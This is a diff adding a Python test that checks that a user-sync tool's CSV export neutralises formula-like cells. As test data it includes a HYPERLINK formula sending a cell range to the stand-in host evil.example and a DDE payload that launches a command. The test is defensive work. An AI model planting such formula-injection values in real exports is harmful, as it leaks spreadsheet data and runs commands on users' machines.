@@ -13,7 +13,7 @@ from tests.support.small_runs import check_plan
 from usersync.plan.approval import Decision, approval_request, removal_lines
 from usersync.plan.change_tables import ChangeTables
 from usersync.rules.model import SafetySpec
-from usersync.run.export import HEADER, change_set_csv
+from usersync.run.export import HEADER, _inert, change_set_csv
 from usersync.run.history import read_summary, recent_runs, report_text, write_run_record
 from usersync.rundata import MANIFEST, RunFolder
 from usersync_airflow.reports_page import chart, page
@@ -151,3 +151,17 @@ def test_a_single_account_runs_record_keeps_its_explanation_beside_the_report(tm
     assert "".join(report_text(folder.path, "explanation.txt")) == "explanation of account 'jdoe':\n"
     write_run_record(RunFolder(tmp_path / "run2"), _summary("r2"), "the report\n")
     assert not (tmp_path / "run2" / "explanation.txt").exists()
+
+
+def test_change_set_csv_cells_a_spreadsheet_would_run_are_made_text(tmp_path):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1:H99,"Open")'
+    changes = plan(rules(), [record(1, givenName=formula), record(2, givenName="@SUM(1+1)", sn="-2+3"),
+                             record(3, sn="+cmd|' /C calc'!A0")])
+    folder = RunFolder(tmp_path)
+    text = "".join(change_set_csv(folder, ChangeTables.from_changeset(changes).save(folder)))
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert "'+cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    # values are trimmed when mapped; a tab or carriage return first is neutralised all the same
+    assert _inert(("\tx", "\ry", "plain", None)) == ("'\tx", "'\ry", "plain", None)
